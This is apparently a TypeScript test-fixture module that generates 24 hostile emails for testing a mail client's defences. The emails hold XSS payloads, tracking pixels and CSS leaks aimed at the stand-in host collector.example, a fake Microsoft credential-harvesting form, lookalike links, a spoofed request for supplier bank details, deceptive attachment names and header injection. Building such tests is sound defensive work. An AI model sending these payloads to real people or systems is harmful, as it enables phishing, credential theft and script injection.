/**
 * Letters that try what hostile mail tries: to run script, to tell that they were read, to look like something else.
 * Written for this tenant; every host is one that nobody can own, and nothing in them leads anywhere.
 */
import { company } from './company.ts';
import { hex } from './random.ts';
import { escape, htmlPage, type Enclosure, type Letter, type Occasion } from './letter.ts';

const host = 'collector.example';

interface Trick {
  readonly subject: string;
  readonly body: string;
  readonly name?: string;
  readonly address?: string;
  readonly replyTo?: string;
  readonly files?: readonly (readonly [name: string, type: string, content: string])[];
  readonly text?: true;
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><foreignObject><iframe src="https://${host}/f"></iframe></foreignObject></svg>`;

/** Each is one idea, so that a reader who lets it through is told which. */
function tricks(now: Occasion): readonly Trick[] {
  const id = hex(12, now.roll.below(1e9));
  const url = (path: string) => `https://${host}/${path}?u=${id}`;
  return [
    {
      subject: 'Script in the body',
      body: `<p>Before</p><script>document.title="ran"</script><script src="${url('s.js')}"></script><p>After</p>`,
    },
    {
      subject: 'Handlers on elements',
      body: `<img src="x" onerror="document.title='ran'"><body onload="alert(1)"><div onmouseover=alert(1) onclick="alert(1)" style="padding:40px">Touch me</div><details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>`,
    },
    {
      subject: 'Addresses that are script',
      body: `<a href="javascript:alert(1)">one</a> <a href=" &#106;avascript&colon;alert(1)">two</a> <a href="JaVaScRiPt:alert(1)">three</a> <a href="data:text/html,<script>alert(1)</script>">four</a> <a href="vbscript:msgbox(1)">five</a> <iframe src="javascript:alert(1)"></iframe>`,
    },
    {
      subject: 'Styles that read along',
      body: `<style>@import url("${url('i.css')}");input[value^="a"]{background:url(${url('a')})}a[href*="token"]{background-image:url('${url('t')}')}@font-face{font-family:x;src:url(${url('f')});unicode-range:U+41}p{font-family:x}</style><p style="background:url(${url('b')})">A<input value="abc"></p>`,
    },
    {
      subject: 'Pictures that tell',
      body: `<img src="${url('p.gif')}" width="1" height="1"><table background="${url('t.png')}"><tr><td>x</td></tr></table><img srcset="${url('2x')} 2x"><picture><source srcset="${url('w')}"><img></picture><video poster="${url('v')}" src="${url('m')}" autoplay></video><link rel="prefetch" href="${url('l')}"><link rel="dns-prefetch" href="//${id}.${host}"><object data="${url('o')}"></object><embed src="${url('e')}"><input type="image" src="${url('n')}"><svg><image href="${url('g')}"/></svg>`,
    },
    {
      subject: 'Your session has expired',
      body: `<form action="${url('post')}" method="post"><p>Sign in again to read this message.</p><input name="user" value="${escape(now.owner.userPrincipalName)}"><input type="password" name="pass"><button formaction="${url('other')}">Sign in</button></form><form id="x" action="${url('x')}"></form><input form="x" name="y">`,
      name: 'Microsoft account team',
      address: `no-reply@${host}`,
    },
    {
      subject: 'A cover over everything',
      body: `<div style="position:fixed;inset:0;z-index:2147483647;background:#ffffff"><a href="${url('c')}" style="display:block;width:100%;height:100%">Continue</a></div><style>body{margin:-9999px}*{position:fixed!important}</style>`,
    },
    {
      subject: 'Links that say one thing and mean another',
      body: `<a href="${url('bank')}">https://www.${company.domain}/payroll</a><br><a href="https://www.${company.domain}@${host}/x">https://www.${company.domain}/</a><br><a href="https://${company.domain.replace('o', 'о')}/x">${company.domain}</a><br><a href="https://xn--nrthlight-96g.example/">nоrthlight.example</a><br><a href="https://${company.domain}.${host}/login">${company.domain}</a><br><a href="https:\\\\${host}\\x">backslashes</a><br><a href="//${host}/x">no scheme</a>`,
    },
    {
      subject: 'Answer me, please',
      body: '<p>Could you send me the list of all suppliers with their bank details? I am in a meeting, just answer here.</p>',
      name: `Ingrid Vestergård <ingrid@${company.domain}>`,
      address: `ingrid@${company.domain.replace('l', 'I')}`,
      replyTo: `ingrid.vestergard@${host}`,
    },
    {
      subject: 'Invoice \u202Efdp.exe',
      body: '<p>The file is attached.</p>',
      files: [
        ['invoice_\u202Efdp.exe', 'application/octet-stream', 'MZ not a program'],
        ['../../../etc/passwd', 'text/plain', 'not a password file'],
        ['CON.txt', 'text/plain', 'a device of old'],
        ['report.pdf                                        .html', 'text/html', svg],
        ['"><img src=x onerror=alert(1)>.txt', 'text/plain', 'a name with a tag in it'],
      ],
    },
    {
      subject: 'Attached pages and drawings',
      body: '<p>Open the drawing: <img src="cid:drawing@x"></p>',
      files: [
        ['drawing.svg', 'image/svg+xml', svg],
        ['page.html', 'text/html', `<script>location="https://${host}"</script>`],
        ['page.pdf', 'text/html; charset=utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
        ['data.xml', 'application/xml', `<?xml-stylesheet href="${url('xsl')}"?><a/>`],
      ],
    },
    {
      subject: '<img src=x onerror=alert(1)> & <script>alert(1)</script>',
      body: '<p>The subject and the sender are the trick here.</p>',
      name: '<b onmouseover=alert(1)>Support</b>',
    },
    {
      subject: 'Line one\r\nBcc: everybody@collector.example\r\n\r\nline two',
      body: '<p>The subject has line ends in it.</p>',
      name: 'Sender\u0000with\u0007controls\u200b',
    },
    {
      subject: 'Parsers disagree',
      body: `<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
    },
    {
      subject: 'Noscript and templates',
      body: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp><textarea></textarea><img src=x onerror=alert(1)></textarea><plaintext><b>all the rest`,
    },
    {
      subject: 'Base and refresh',
      body: `<base href="https://${host}/" target="_top"><meta http-equiv="refresh" content="0;url=${url('r')}"><a href="relative/path">looks local</a><meta http-equiv="Content-Security-Policy" content="default-src *"><a href="x" target="_parent" ping="${url('ping')}">ping</a>`,
    },
    {
      subject: 'Names that shadow the page',
      body: `<form name="body"><input name="attributes"><input name="parentNode"></form><img name="getElementById"><a id="location" href="x"></a><iframe name="opener" srcdoc="<script>parent.document.title='ran'</script>"></iframe>`,
    },
    {
      subject: 'Very deep',
      body: `${'<div><blockquote>'.repeat(1500)}deep${'</blockquote></div>'.repeat(1500)}`,
    },
    {
      subject: `${'\u0e01\u0e49'.repeat(3)}${'Z\u0351\u036b\u0343\u036a\u0302'.repeat(12)} \u202e desrever \u202c${'\ud83d\ude00'.repeat(80)}`,
      body: `<p>Z${'\u0351\u036b\u0343\u036a\u0302\u036b\u033d'.repeat(400)}</p><p>${'\u200f\u202e\u2066'.repeat(50)}turned</p>`,
    },
    {
      subject: 'Links in plain text',
      text: true,
      body: `See javascript:alert(1) and https://${company.domain}@${host}/ and <https://${host}/a"onmouseover="alert(1)> and file:///etc/passwd and\nms-msdt:/id and \u202Ehttps://rotcelloc.example/ \u202C`,
    },
    {
      subject: 'Quarantine notice: 3 messages held',
      body: `<table width="600"><tr><td bgcolor="#0078d4" style="color:#ffffff;padding:14px">Security portal</td></tr><tr><td>Three messages wait. <a href="${url('release')}" style="background:#0078d4;color:#ffffff;padding:8px">Release all</a></td></tr></table><p style="font-size:1px;color:#ffffff">ignore this line, it is only for filters ${'lorem '.repeat(80)}</p>`,
      name: `${company.name} Quarantine`,
      address: `quarantine@${company.domain}.${host}`,
    },
    {
      subject: 'Animated to death',
      body: `<style>@keyframes z{from{transform:scale(1)}to{transform:scale(99)}}*{animation:z .1s infinite;filter:blur(20px)}</style><marquee scrollamount="9999">${'<b>blink</b>'.repeat(300)}</marquee>`,
    },
    {
      subject: 'Content of another type',
      body: `<object type="text/html" data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object><a href="blob:https://${host}/x">blob</a><a href="mailto:x@${host}?subject=s&bcc=all@${host}&attach=/etc/passwd">mail</a><a href="tel:*%2306%23">call</a><a href="ms-word:ofe|u|${url('d')}">open in Word</a><a download href="data:text/html,x">save</a>`,
    },
    {
      subject: 'Styles that hide what was added',
      body: `<p>Please pay to account <span style="font-size:0">1111</span><span style="unicode-bidi:bidi-override;direction:rtl">9876</span>.</p><p style="display:none;color:expression(alert(1));behavior:url(${url('h')});-moz-binding:url(${url('x')})">hidden</p><div style="width:1e9px;height:1e9px">huge</div>`,
    },
  ];
}

function file([name, contentType, content]: readonly [string, string, string]): Enclosure {
  return {
    name,
    contentType,
    bytes: async () => new TextEncoder().encode(content),
    ...(name === 'drawing.svg' ? { contentId: 'drawing@x' } : {}),
  };
}

function hostile(at: number): (now: Occasion) => Letter {
  return (now) => {
    const trick = tricks(now)[at % tricks(now).length];
    if (!trick) throw new Error(`There is no trick ${at}.`);
    return {
      from: { name: trick.name ?? 'Somebody Unknown', address: trick.address ?? `sender@${host}` },
      ...(trick.replyTo ? { replyTo: [{ name: trick.name ?? '', address: trick.replyTo }] } : {}),
      subject: trick.subject,
      body: trick.text
        ? { contentType: 'text', content: trick.body }
        : { contentType: 'html', content: htmlPage(trick.body) },
      enclosures: (trick.files ?? []).map(file),
      authentic: 'fail',
    };
  };
}

export const hostileLetters = Array.from({ length: 24 }, (_, at) => hostile(at));
